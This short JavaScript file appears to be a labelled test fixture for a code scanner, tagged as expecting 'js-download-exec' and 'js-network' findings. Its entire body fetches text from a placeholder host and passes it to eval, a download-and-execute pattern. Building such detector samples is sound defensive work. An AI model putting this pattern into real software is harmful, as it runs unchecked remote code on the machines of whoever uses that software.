// expect: js-download-exec,js-network
const https = require('https');
https.get('https://x.example/s', res => {
  let d = '';
  res.on('data', c => d += c);
  res.on('end', () => eval(d));
});
